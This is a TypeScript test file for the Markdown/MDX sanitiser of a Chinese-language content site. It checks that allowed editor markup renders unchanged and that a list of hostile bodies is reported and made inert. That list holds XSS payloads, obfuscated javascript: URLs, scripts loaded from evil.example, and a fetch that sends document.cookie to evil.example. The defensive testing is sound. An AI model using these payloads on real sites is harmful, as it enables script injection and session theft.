// The body pipeline (src/core/prose): what an editor may write renders as a reader expects; every
// hostile input is reported by the check AND comes out of the pipeline inert; and what the check
// accepts, the sanitiser leaves exactly as it is (nothing is dropped silently).
import type { Element, Root, RootContent } from 'hast';
import { raw } from 'hast-util-raw';
import { describe, expect, it } from 'vitest';
import { bodyHtml, firstDifference, inspectBody, parseBody, safeBody, sanitizeBody } from '../../src/core/prose/index.ts';
import { baseFiles, loadBase, replaceOnce, withFile } from './fixture.ts';

const MENTIONS = { hrefOf: (id: string) => `/people/${id}/`, unknownLabel: '未找到此人', unknownNote: '（未找到此人）' };
const lookup = (name: string) => (name === '张三' ? ['zhang-san'] : []);
const path = (mdx: boolean) => (mdx ? 'okrs/2026/sales.mdx' : 'departments/sales.md');
const render = (text: string, mdx = false) => bodyHtml(safeBody({ path: path(mdx), text }), lookup, MENTIONS);
const problems = (text: string, mdx = false) => inspectBody(parseBody(text, { mdx }));

// ── What an editor may write ────────────────────────────────────────────────────────────────────

/** Bodies the check accepts, in both syntaxes where they differ. */
const ALLOWED: [string, string, boolean][] = [
  ['a GFM table with alignment', '| 渠道 | 时限 |\n| :-- | --: |\n| 抖音 | 1 天 |', false],
  ['a task list', '- [x] 素材自查\n- [ ] 三方审核', false],
  ['footnotes', '见附注[^1]。\n\n[^1]: 2025 年数据。', false],
  ['strikethrough, emphasis, code', '~~旧~~ **新** *斜* `code`', false],
  ['links: web, mail, relative, anchor', '[a](https://example.com/) [b](mailto:a@b.c) [c](/2026/market/) [d](#o1) <https://example.com/x>', false],
  ['a reference link and an image', '[规则][r] ![图](/logo.png "标题")\n\n[r]: https://example.com/rules', false],
  ['details and summary (.md)', '<details>\n<summary>更多</summary>\n\n内容 @张三\n\n</details>', false],
  ['details and summary (.mdx)', '<details>\n<summary>更多</summary>\n\n内容 @张三\n\n</details>', true],
  ['inline HTML', '<kbd>Ctrl</kbd> H<sub>2</sub>O x<sup>2</sup> <mark>重点</mark> <abbr title="净推荐值">NPS</abbr> <ins>增</ins> <s>删</s> <small>注</small><br>', false],
  ['inline JSX', '<kbd>Ctrl</kbd> H<sub>2</sub>O <abbr title="净推荐值">NPS</abbr><br />', true],
  ['a definition list and an open details', '<dl><dt>KR</dt><dd>关键结果</dd></dl>\n\n<details open><summary>s</summary>x</details>', false],
  ['HTML comments and MDX comments (dropped: notes for editors)', '文字<!-- 编辑备注 -->', false],
  ['an MDX comment', '文字 {/* 编辑备注 */}\n\n{/* 整行备注 */}', true],
  ['escaped braces and angle brackets in MDX', '满意度 \\<3 个月，集合 \\{a}', true],
  ['table cells spanning', '<table><tr><td colspan="2" align="center">x</td></tr></table>', false],
  ['images with size', '<img src="https://example.com/a.png" alt="a" width="100" height="50">', false],
];

describe('what an editor may write', () => {
  it.each(ALLOWED)('%s: the check reports nothing, and the sanitiser changes nothing', (_, text, mdx) => {
    const body = parseBody(text, { mdx });
    expect(inspectBody(body)).toEqual([]);
    expect(firstDifference(body.hast, sanitizeBody(body.hast))).toBeUndefined();
  });

  it('renders tables, task lists, details, links and mentions as a reader expects', () => {
    expect(render('| 渠道 | 时限 |\n| :-- | --: |\n| 抖音 | 1 天 |')).toBe(
      '<table>\n<thead>\n<tr>\n<th align="left">渠道</th>\n<th align="right">时限</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align="left">抖音</td>\n<td align="right">1 天</td>\n</tr>\n</tbody>\n</table>');
    expect(render('- [x] 自查')).toBe('<ul class="contains-task-list">\n<li class="task-list-item"><input type="checkbox" checked disabled> 自查</li>\n</ul>');
    expect(render('<details>\n<summary>更多</summary>\n\n由 @张三 负责，见 [规则](/2026/sales/)\n\n</details>', true)).toBe(
      '<details><summary>更多</summary><p>由 <a class="mention" href="/people/zhang-san/">@张三</a> 负责，见 <a href="/2026/sales/">规则</a></p></details>');
  });

  it('labels footnotes in the content language, with ids unique to the body', () => {
    const html = render('见附注[^1]。\n\n[^1]: 数据。');
    expect(html).toContain('<a href="#user-content-departments-sales-fn-1" id="user-content-departments-sales-fnref-1" data-footnote-ref="" aria-describedby="user-content-departments-sales-footnote-label">1</a>');
    expect(html).toContain('<h2 class="sr-only" id="user-content-departments-sales-footnote-label">脚注</h2>');
    expect(html).toContain('aria-label="返回引用 1"');
    expect(bodyHtml(safeBody({ path: 'bsc/2026.mdx', text: 'x[^1]\n\n[^1]: y' }, 'en'), lookup, MENTIONS)).toContain('>Footnotes</h2>');
  });

  it('drops comments, which are notes for editors, and keeps text as written (no smart quotes)', () => {
    expect(render('文字<!-- 备注 --> "引号"')).toBe('<p>文字 "引号"</p>');
    expect(render('文字 {/* 备注 */}', true)).toBe('<p>文字 </p>');
  });
});

// ── Hostile inputs ──────────────────────────────────────────────────────────────────────────────

/** [input, MDX?, the rules the check must report]: every one must also come out of the pipeline inert. */
const HOSTILE: [string, boolean, string[]][] = [
  ['<img src=x onerror=alert(1)>', false, ['body-html']],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', false, ['body-html']],
  ['<!-- --><script>alert(1)</script> -->', false, ['body-html']],
  ['<script>alert(1)</script>', false, ['body-html']],
  ['<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', false, ['body-html']],
  ['<svg><script>alert(1)</script></svg>', false, ['body-html']],
  ['<svg onload=alert(1)>', false, ['body-html']],
  ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', false, ['body-html']],
  ['<object data="javascript:alert(1)"></object>', false, ['body-html']],
  ['<embed src="javascript:alert(1)">', false, ['body-html']],
  ['<style>body{display:none}</style>', false, ['body-html']],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', false, ['body-html']],
  ['<base href="javascript:alert(1)//">', false, ['body-html']],
  ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', false, ['body-html']],
  ['<form action="https://evil.example/"><input name="p"><button>登录</button></form>', false, ['body-html']],
  ['<details open ontoggle=alert(1)>x</details>', false, ['body-html']],
  ['<a href="https://example.com/" onclick="alert(1)">x</a>', false, ['body-html']],
  ['<kbd onmouseover="alert(1)">x</kbd>', false, ['body-html']],
  ['<p style="background:url(javascript:alert(1))">x</p>', false, ['body-html']],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', false, ['body-html']],
  ['<textarea><script>alert(1)</script></textarea>', false, ['body-html']],
  ['<template><script>alert(1)</script></template>', false, ['body-html']],
  ['<img src="x.png" srcset="javascript:alert(1)">', false, ['body-html']],
  ['<a href="https://example.com/" target="_blank">x</a>', false, ['body-html']],
  ['<kbd id="main">x</kbd> <abbr class="banner">x</abbr>', false, ['body-html']],
  ['<input type="text" value="x">', false, ['body-html']],
  ['<div>x</div>', false, ['body-html']],
  ['[x](javascript:alert(1))', false, ['unsafe-url']],
  ['[x](JaVaScRiPt:alert(1))', false, ['unsafe-url']],
  ['[x](java&#x09;script:alert(1))', false, ['unsafe-url']],
  ['[x](&#106;avascript:alert(1))', false, ['unsafe-url']],
  ['[x](<javascript:alert(1)>)', false, ['unsafe-url']],
  ['<javascript:alert(1)>', false, ['unsafe-url']],
  ['![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', false, ['unsafe-url']],
  ['[x][r]\n\n[r]: vbscript:msgbox(1)', false, ['unsafe-url']],
  ['![x][r]\n\n[r]: mailto:a@b.c', false, ['unsafe-url']],
  ['[r]: javascript:alert(1)', false, ['unsafe-url']],
  ['<a href="javascript:alert(1)">x</a>', false, ['unsafe-url']],
  ['<a href="java&#x09;script:alert(1)">x</a>', false, ['unsafe-url']],
  ['<a href="&#106;avascript&colon;alert(1)">x</a>', false, ['unsafe-url']],
  ['<a href=" javascript:alert(1)">x</a>', false, ['unsafe-url']],
  ['<a href="jav&#x0A;ascript:alert(1)">x</a>', false, ['unsafe-url']],
  ['<a href="vbscript:msgbox(1)">x</a>', false, ['unsafe-url']],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', false, ['unsafe-url']],
  ['<img src="data:image/svg+xml,<svg onload=alert(1)>">', false, ['unsafe-url']],
  ['<a href="HTTPS://example.com/">x</a>', false, ['unsafe-url']],
  ["import fs from 'node:fs'", true, ['body-code']],
  ['export const x = 1', true, ['body-code']],
  ["export default function Layout() { return require('child_process').execSync('id') }", true, ['body-code']],
  ['{alert(1)}', true, ['body-code']],
  ["文字 {fetch('https://evil.example/?' + document.cookie)} 文字", true, ['body-code']],
  ["<a href={'javascript:alert(1)'}>x</a>", true, ['body-code']],
  ['<details {...{ open: true }}>x</details>', true, ['body-code']],
  ['<img src="x" onError="alert(1)" />', true, ['body-html']],
  ['<iframe srcDoc="<script>alert(1)</script>" />', true, ['body-html']],
  ["<script>{'alert(1)'}</script>", true, ['body-code', 'body-html']],
  ['<style>{`body{display:none}`}</style>', true, ['body-code', 'body-html']],
  ['<Chart data="x" />', true, ['body-html']],
  ['<motion.div>x</motion.div>', true, ['body-html']],
  ['<Details>x</Details>', true, ['body-html']],
  ['<a href="javascript:alert(1)">x</a>', true, ['unsafe-url']],
  ['<a href="&#106;avascript:alert(1)">x</a>', true, ['unsafe-url']],
  ['[x](javascript:alert(1))', true, ['unsafe-url']],
  ['<img src="data:image/png;base64,AAAA" />', true, ['unsafe-url']],
];

/** Tags, attributes and address schemes that can run or load code, judged on the HTML as a browser parses it. */
const ACTIVE_TAGS = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'style', 'link', 'base', 'meta', 'form', 'button',
  'textarea', 'select', 'svg', 'math', 'noscript', 'template', 'portal']);
const URL_ATTRIBUTES = new Set(['href', 'src', 'srcSet', 'action', 'formAction', 'data', 'cite', 'poster', 'background', 'xLinkHref', 'srcDoc']);

/** Every way the published HTML could run code, found by parsing it again as a browser does. */
function activeParts(html: string): string[] {
  const tree = raw({ type: 'root', children: [{ type: 'raw', value: html }] } as unknown as Root) as Root;
  const found: string[] = [];
  const visit = (node: Root | RootContent) => {
    if (node.type === 'comment') found.push('a comment');
    if (node.type !== 'element' && node.type !== 'root') return;
    if (node.type === 'element') {
      const e = node as Element;
      if (ACTIVE_TAGS.has(e.tagName)) found.push(`<${e.tagName}>`);
      if (e.tagName === 'input' && !(e.properties.type === 'checkbox' && e.properties.disabled)) found.push('an input');
      for (const [key, value] of Object.entries(e.properties)) {
        if (/^on/i.test(key)) found.push(`${key} on <${e.tagName}>`);
        if (key === 'style' || key === 'id' && !String(value).startsWith('user-content-')) found.push(`${key} on <${e.tagName}>`);
        if (!URL_ATTRIBUTES.has(key)) continue;
        if (key !== 'href' && key !== 'src') found.push(`${key} on <${e.tagName}>`);
        const url = String(value).replace(/[\u0000-\u0020\u007f]/g, '').toLowerCase();
        if (/^(?:javascript|vbscript|data):/.test(url)) found.push(`${key}=${String(value)}`);
      }
    }
    for (const child of node.children) visit(child);
  };
  visit(tree);
  return found;
}

describe('hostile bodies: each one is reported by the check and comes out inert', () => {
  it.each(HOSTILE)('%j (mdx: %s) → %j', (text, mdx, rules) => {
    const reported = problems(text, mdx);
    expect([...new Set(reported.map((p) => p.rule))].sort()).toEqual([...rules].sort());
    for (const p of reported) expect(p.message.zh && p.message.en, `a message in both languages for ${p.rule}`).toBeTruthy();
    expect(activeParts(render(text, mdx))).toEqual([]);
  });

  it('the oracle itself sees what the sanitiser removes', () => {
    expect(activeParts('<img src=x onerror=alert(1)><a href=" java\tscript:x">y</a><script></script><!-- x -->')).toEqual([
      'onError on <img>', 'href= java\tscript:x', '<script>', 'a comment']);
  });

  it('reports what the named rules missed at the first node the sanitiser would change', () => {
    const before = parseBody('<kbd>x</kbd>', { mdx: false }).hast;
    const after = structuredClone(before);
    const kbd = (after.children[0] as Element).children[0] as Element;
    kbd.tagName = 'b';
    expect(firstDifference(before, after)).toBe((before.children[0] as Element).children[0]);
    expect(firstDifference(before, structuredClone(before))).toBeUndefined();
  });
});

describe('body problems in a content file: file, line and column', () => {
  const BODY = 'periods/2026.mdx';
  const check = (file: string, edit: (text: string) => string) =>
    loadBase(withFile(baseFiles(), file, edit)).diagnostics.map((d) => `${d.file}:${d.line}:${d.col} ${d.rule}`);

  it('counts lines from the top of the file, not of the body', () => {
    expect(check(BODY, (t) => replaceOnce(t, '跨部门项目由 @张三 统一协调。', '第一行\n\n  文字 {alert(1)} 与 [x](javascript:alert(1))'))).toEqual([
      'periods/2026.mdx:10:6 body-code',
      'periods/2026.mdx:10:19 unsafe-url',
    ]);
    expect(check('departments/sales.md', (t) => `${t}\n<img src=x onerror=alert(1)>\n`)).toEqual([
      `departments/sales.md:${baseFiles().find((f) => f.path === 'departments/sales.md')!.text.split('\n').length + 1}:1 body-html`,
    ]);
  });

  it('checks bodies of files whose frontmatter failed, too', () => {
    expect(check(BODY, (t) => replaceOnce(t, 'period:', 'perod:').replace('跨部门项目由 @张三 统一协调。', '{alert(1)}'))).toContain('periods/2026.mdx:8:1 body-code');
  });
});

describe('headings without emoji', () => {
  it('drops the emoji of a heading (no tofu where no emoji font is installed), keeps those in running text', async () => {
    const { safeBody } = await import('../../src/core/prose/render.ts');
    const { toHtml } = await import('hast-util-to-html');
    const html = toHtml(safeBody({ path: 'bsc/2026.mdx', text: '## 🔄 被移除指标的安置\n\n### ⚖️ 权重变化对比\n\n## 👩‍💻 团队 **AI** 🚀\n\n财务达标 ✅\n' }));
    expect(html).toContain('<h2>被移除指标的安置</h2>');
    expect(html).toContain('<h3>权重变化对比</h3>');
    expect(html).toContain('<h2>团队 <strong>AI</strong> </h2>');
    expect(html).toContain('财务达标 ✅');
  });
});
